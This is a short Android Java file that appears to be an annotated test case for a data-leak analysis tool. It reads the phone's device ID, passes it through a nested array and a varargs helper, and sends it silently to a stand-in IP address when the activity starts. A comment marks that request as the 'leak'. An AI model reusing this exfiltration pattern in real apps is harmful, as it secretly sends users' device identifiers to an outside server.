package habits;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.net.URL;

/** Arrays of arrays, and arguments in any number. */
public class Tables extends Activity {
    private static String join(Object... parts) {
        StringBuilder all = new StringBuilder();
        for (Object part : parts) all.append(part).append('/');
        return all.toString();
    }

    @Override
    protected void onCreate(Bundle state) {
        TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
        String[][] table = new String[2][2];
        table[0][1] = phone.getDeviceId();
        table[1][1] = "none";
        try {
            new URL("http://203.0.113.3/" + join("a", 1, table[0][1])).openStream(); // leak
            new URL("http://203.0.113.3/" + join("a", 1, table[1][1])).openStream(); // no leak
        } catch (Exception ignored) {
        }
    }
}
